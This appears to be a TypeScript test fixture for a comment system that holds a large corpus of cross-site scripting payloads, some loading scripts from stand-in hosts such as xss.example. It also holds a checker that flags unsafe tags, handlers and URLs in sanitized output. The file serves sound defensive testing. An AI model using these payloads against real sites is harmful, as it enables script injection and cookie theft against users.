// The one XSS corpus: every test that shows readers' text (the renderer, the
// public and moderation APIs, the widget and the dashboard in Chromium) runs
// all of it. Kinds from OWASP's XSS filter-evasion cheat sheet, mutation XSS
// (namespace confusion, raw-text breakouts), polyglots, unicode and NUL
// tricks, DOM clobbering, and links that linkify or a website field might
// carry. A payload that calls alert/confirm/prompt or sets window.__xss is
// caught by the browser tests' tripwire; one that injects markup is caught by
// `unsafeHtml` (and by the DOM checks in the browser tests).
import { parseDocument } from 'htmlparser2';
import type { ChildNode, Element } from 'domhandler';

const scriptTags = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<SCRIPT a=">" SRC="http://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="http://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="http://xss.example/xss.js"></SCRIPT>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script\n>alert(1)</script\n>',
  '<script>document.write("<img src=x onerror=alert(1)>")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
];

const eventHandlers = [
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=1 onerror=confirm(1)>',
  '<img src=1 onerror=prompt(1)>',
  '<img src=1 onerror="window.__xss=1">',
  '<img src="x:x" onerror="alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg/onload=alert(\'XSS\')>',
  '<svg onload=alert(1)>',
  '<svg/onload=confirm(1)>',
  '<body onload=alert(1)>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<frameset onload=alert(1)>',
  '<x onclick=alert(1)>click</x>',
  '<div onpointerover="window.__xss=1">hover</div>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<button formaction="javascript:alert(1)">x</button>',
  // Handlers on the tags the renderer keeps.
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<a href="https://ok.example" onclick="alert(1)">a good link with a handler</a>',
  '<b onclick=alert(1)>bold</b><i onmouseover=alert(2)>it</i>',
  '<b onmouseover=alert(1)>hover</b>',
  '<strong/onclick=alert(1)>strong</strong>',
  '<em onfocus=alert(1) tabindex=1 autofocus>em</em>',
  '<code onclick=alert(1)>c</code>',
  '<pre onmouseover="window.__xss=1">pre</pre>',
  '<ul><li onclick="alert(1)">x</li></ul>',
  '<ul><li onclick=alert(1)>x</li></ul>',
  '<blockquote onmouseover=alert(1)>q</blockquote>',
  '<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
];

const schemes = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href=javascript:alert(1)>unquoted</a>',
  '<a href=`javascript:alert(1)`>backticks</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">click</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">click</a>',
  '<a href="&#106;avascript:alert(1)">e</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href="jav\tascript:alert(\'XSS\');">tab</a>',
  '<a href="jav&#x09;ascript:alert(\'XSS\');">entity tab</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">newline</a>',
  '<a href="jav&#x0D;ascript:alert(\'XSS\');">carriage return</a>',
  '<a href=" &#14;  javascript:alert(\'XSS\');">leading junk</a>',
  '<a href=" javascript:alert(1)">sp</a>',
  '<a href="jav\tascript:alert(1)">tab</a>',
  '<a href="javascript://%0aalert(1)">comment trick</a>',
  '<a href="javascript%3Aalert(1)">encoded colon</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="VBSCRIPT:msgbox(1)">VB</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<a href="\\\\evil.example/x">backslashes</a>',
  '<a href="/\\evil.example">slash and backslash</a>',
  '<a href="/admin?do=delete">site-relative</a>',
  '<a href="http:evil.example">no slashes</a>',
  '<a href="mailto:x@example.com?subject=<script>">mail</a>',
  '<a href="https://ok.example" style="position:fixed;top:0">overlay</a>',
  '<a href="https://ok.example" target="_blank">new tab</a>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="jav&#x09;ascript:alert(1)"></iframe>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<table background="javascript:alert(1)">',
  '<div style="background-image: url(javascript:alert(\'XSS\'))">x</div>',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width: expression(alert(\'XSS\'));">ie</div>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<link rel=import href=data:text/html,<script>alert(1)</script>>',
  '<isindex action=javascript:alert(1)>',
];

const namespaces = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(4)</script>">',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<img src="test.jpg" alt="``onload=alert(1)" />',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
];

const breakouts = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<code><script>alert(1)</script></code>',
  '<pre><img src=x onerror=alert(1)></pre>',
  '<code>&lt;/code&gt;<img src=x onerror=alert(1)></code>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
];

const commentsAndCdata = [
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
  '<? echo(\'<SCR)\';echo(\'IPT>alert("XSS")</SCRIPT>\'); ?>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
];

const malformed = [
  '<img src=x onerror=alert`1`>',
  '<img src="x"onerror="alert(1)">',
  '<img src=x onerror\n=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src=x onerror="alert&#40;1&#41;">',
  '<img src=x onerror=&#x61;lert(1)>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<a href="https://ok.example/"onmouseover="alert(1)">no space between attributes</a>',
  '<b """ onclick=alert(1)>quotes</b>',
  '<b/onclick="alert(1)">slash</b>',
  '<a href="https://ok.example">https://ok.example"onclick="alert(1)</a>',
];

const embedding = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe src=https://evil.example></iframe>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<object data="javascript:alert(1)">',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" AllowScriptAccess="always"></EMBED>',
  '<embed src="javascript:alert(1)">',
  '<applet code="javascript:alert(1)"></applet>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
  '<form action="https://evil.example"><input name=x></form>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<STYLE>@import\'http://xss.example/xss.css\';</STYLE>',
  '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<style>@import "javascript:alert(1)"</style>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
];

const polyglots = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '\';alert(String.fromCharCode(88,83,83))//\';alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//--></SCRIPT>">\'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
  '\'\';!--"<XSS>=&{()}',
  '\'"--></style></script><script>alert(1)</script>',
  '"\'><img src=x onerror=alert(1)>',
  '</script><svg/onload=alert(1)>',
  '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
  'javascript:alert(1)//<svg onload=alert(1)>',
];

const unicodeAndNul = [
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x onerror=\u0000alert(1)>',
  '<a href="java\u0000script:alert(1)">nul</a>',
  '<a href="jav&#x0;ascript:alert(1)">nul entity</a>',
  '<svg\u000Conload=alert(1)>',
  '<img src=x onerror=alert(1)\u2028>',
  '\u2028<script>alert(1)</script>',
  '<img\u00A0src=x\u00A0onerror=alert(1)>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '<ſcript>alert(1)</ſcript>',
  '<scrİpt>alert(1)</scrİpt>',
  '<img src=x onerror="\\u0061lert(1)">',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<a href="https://ok.example/\u202Egnp.exe">right-to-left override</a>',
];

const clobbering = [
  '<template><script>alert(1)</script></template>',
  '<template><img src=x onerror=alert(1)></template>',
  '<a id=__xss href="https://ok.example">clobbers window.__xss</a>',
  '<form name=__xss><input name=x></form>',
  '<a id=defaultAvatar><a id=defaultAvatar name=avatar href="cid:&quot;onerror=alert(1)//">',
  '<img name=getElementById>',
  '<form id=parley-comments><input name=attachShadow></form>',
];

/** Text that linkify turns into links, and http(s) URLs a website field accepts. */
const links = [
  'https://ok.example/"onmouseover="alert(1)',
  'https://x.example/"onmouseover="alert(1)',
  'https://x.example/"><script>alert(1)</script>',
  "https://x.example/'><img src=x onerror=alert(1)>",
  'http://x.example/?q=<svg/onload=alert(1)>',
  'https://x.example/#javascript:alert(1)',
  'https://javascript:alert(1)@x.example/',
  'HTTPS://X.EXAMPLE/%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
  'https://x.example/ onmouseover=alert(1)',
  'https://x.example\\@evil.example/',
  'https://evil.example/javascript:alert(1)',
  'www.ok.example/<script>alert(1)</script>',
  'www.ok.example/"onmouseover=alert(1)//',
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x',
  'mailto:x@example.com" onmouseover="alert(1)',
  'x@example.com"><script>alert(1)</script>',
];

export const XSS_PAYLOADS: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...schemes,
  ...namespaces,
  ...breakouts,
  ...commentsAndCdata,
  ...malformed,
  ...embedding,
  ...polyglots,
  ...unicodeAndNul,
  ...clobbering,
  ...links,
];

/** The tags and attributes sanitized comment HTML may hold (and <ol start=N>); every link absolute http(s) or mailto. */
const ALLOWED_TAGS = new Set(['a', 'b', 'strong', 'i', 'em', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'p', 'br']);
const ALLOWED_ATTRIBUTES = new Set(['href', 'rel']);
const DANGEROUS_TAGS = ['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'base', 'meta', 'form', 'img', 'link', 'template'];
const SAFE_URL = /^(https?:|mailto:)/i;

/** Every element of an HTML fragment, parsed as htmlparser2 parses it (for checks on sanitized output). */
export function elements(html: string): Element[] {
  const found: Element[] = [];
  const walk = (nodes: ChildNode[]) => {
    for (const n of nodes) {
      if (n.type === 'tag' || n.type === 'script' || n.type === 'style') {
        found.push(n as Element);
        walk((n as Element).children);
      }
    }
  };
  walk(parseDocument(html).children);
  return found;
}

/** What a browser would run, load or show as markup from comment HTML: one line per problem, none when safe. */
export function unsafeHtml(html: string): string[] {
  const problems: string[] = [];
  for (const el of elements(html)) {
    if (DANGEROUS_TAGS.includes(el.name)) problems.push(`<${el.name}> element`);
    else if (!ALLOWED_TAGS.has(el.name)) problems.push(`<${el.name}> is not an allowed tag`);
    for (const [name, value] of Object.entries(el.attribs)) {
      if (/^on/i.test(name)) problems.push(`${name}= handler on <${el.name}>`);
      else if ((name === 'href' || name === 'src') && !SAFE_URL.test(value)) problems.push(`${name}="${value}" on <${el.name}>`);
      else if (name === 'start' && el.name === 'ol' && /^\d+$/.test(value)) continue; // a numbered list's first number (Markdown's "3. …")
      else if (!ALLOWED_ATTRIBUTES.has(name)) problems.push(`${name}= attribute on <${el.name}>`);
    }
  }
  return problems;
}
